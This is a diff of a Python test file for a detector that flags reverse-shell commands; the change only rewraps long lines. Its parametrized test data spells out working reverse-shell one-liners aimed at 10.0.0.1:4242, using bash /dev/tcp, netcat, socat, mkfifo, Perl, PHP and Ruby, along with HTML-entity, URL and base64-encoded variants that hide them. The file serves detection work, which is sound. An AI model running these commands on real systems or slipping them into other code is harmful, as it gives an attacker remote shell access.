@@ -29,10 +29,18 @@ def fenced(body: str, lang: str = "") -> str:
     ("body", "lang", "kind"),
     [
         (BASH, "bash", "/dev/tcp redirection"),
-        ("0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196", "", "/dev/tcp redirection"),
+        (
+            "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
+            "",
+            "/dev/tcp redirection",
+        ),
         ("nc -e /bin/sh 10.0.0.1 4242", "bash", "netcat exec"),
         ("ncat --exec cmd.exe 10.0.0.1 4242", "", "netcat exec"),
-        ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f", "sh", "mkfifo pipe"),
+        (
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
+            "sh",
+            "mkfifo pipe",
+        ),
         ("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242", "", "socat exec"),
         ("socat TCP-LISTEN:4242,reuseaddr,fork EXEC:/bin/sh", "", "socat exec"),
         (
@@ -49,13 +57,21 @@ def fenced(body: str, lang: str = "") -> str:
             "Python socket and dup2",
         ),
         (
-            "perl -e 'use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
-            "if(connect(S,sockaddr_in(4242,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'",
+            'perl -e \'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+            'if(connect(S,sockaddr_in(4242,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};\'',
             "",
             "Perl socket and exec",
         ),
-        ("php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", "", "PHP fsockopen and exec"),
-        ("ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", "", "Ruby TCPSocket and exec"),
+        (
+            'php -r \'$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'',
+            "",
+            "PHP fsockopen and exec",
+        ),
+        (
+            'ruby -rsocket -e\'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
+            "",
+            "Ruby TCPSocket and exec",
+        ),
     ],
 )
 def test_shell_one_liners_in_code_are_strong(body: str, lang: str, kind: str) -> None:
@@ -72,14 +88,14 @@ def test_entities_that_hide_the_whole_command_are_decoded() -> None:
     hidden = "".join(f"&#x{ord(ch):x};" for ch in BASH)
     assert "/dev/tcp" not in hidden
     hits = scan(f"<string>{hidden}</string>\n")
-    assert [h.what for h in hits] == ["reverse shell (/dev/tcp redirection) in prose (HTML-entity-encoded)"]
+    assert [h.what for h in hits] == [
+        "reverse shell (/dev/tcp redirection) in prose (HTML-entity-encoded)"
+    ]
     assert hits[0].strong
 
 
 def test_entities_around_redirections_as_in_an_xml_exploit_request() -> None:
-    body = (
-        "<void index=\"2\">\n<string>bash -i &gt;&amp; /dev/tcp/10.0.0.1/21 0&gt;&amp;1</string>\n</void>"
-    )
+    body = '<void index="2">\n<string>bash -i &gt;&amp; /dev/tcp/10.0.0.1/21 0&gt;&amp;1</string>\n</void>'
     hits = scan(fenced(body))
     assert hits
     assert {h.line for h in hits} == {5}
@@ -97,14 +113,18 @@ def test_url_encoding_is_decoded() -> None:
     request = f"GET /cgi-bin/status?c={urllib.parse.quote(BASH, safe='')} HTTP/1.1"
     assert "/dev/tcp" not in request
     hits = scan(fenced(request))
-    assert [h.what for h in hits] == ["reverse shell (/dev/tcp redirection) in a code block (URL-encoded)"]
+    assert [h.what for h in hits] == [
+        "reverse shell (/dev/tcp redirection) in a code block (URL-encoded)"
+    ]
 
 
 def test_base64_run_is_decoded_once() -> None:
     blob = base64.b64encode(BASH.encode()).decode()
     hits = scan(fenced(f"echo {blob} | base64 -d | bash", "bash"))
     assert len(hits) == 1
-    assert hits[0].what == "reverse shell (/dev/tcp redirection) in a bash code block (base64-encoded)"
+    assert (
+        hits[0].what == "reverse shell (/dev/tcp redirection) in a bash code block (base64-encoded)"
+    )
     assert hits[0].line == 4
 
 
@@ -141,8 +161,13 @@ def test_same_command_hashes_the_same_wherever_it_is() -> None:
         # socat relays without exec.
         fenced("socat TCP-LISTEN:8080,fork TCP:backend.example.org:80"),
         # Plain socket code.
-        fenced("s = socket.socket()\ns.connect(('example.org', 443))\ns.sendall(b'ping')", "python"),
-        fenced('$c = New-Object System.Net.Sockets.TCPClient("example.org", 443)\n$c.Connected', "powershell"),
+        fenced(
+            "s = socket.socket()\ns.connect(('example.org', 443))\ns.sendall(b'ping')", "python"
+        ),
+        fenced(
+            '$c = New-Object System.Net.Sockets.TCPClient("example.org", 443)\n$c.Connected',
+            "powershell",
+        ),
         "Run `mkfifo /tmp/queue` to create a named pipe for the log shipper.",
     ],
 )
@@ -174,7 +199,13 @@ def test_linear_time_on_hostile_input(text: str) -> None:
 @pytest.mark.parametrize("kind", ["code", "prose"])
 @pytest.mark.parametrize(
     "text",
-    ["a" * 100_000, " " * 100_000, "nc -e " * 16_000, "socat " * 16_000 + "tcp:", "mkfifo |sh|" * 9_000],
+    [
+        "a" * 100_000,
+        " " * 100_000,
+        "nc -e " * 16_000,
+        "socat " * 16_000 + "tcp:",
+        "mkfifo |sh|" * 9_000,
+    ],
 )
 def test_linear_time_past_the_document_line_cap(kind: str, text: str) -> None:
     # document_from_text cuts lines at MAX_LINE; a detector must not rely on that.
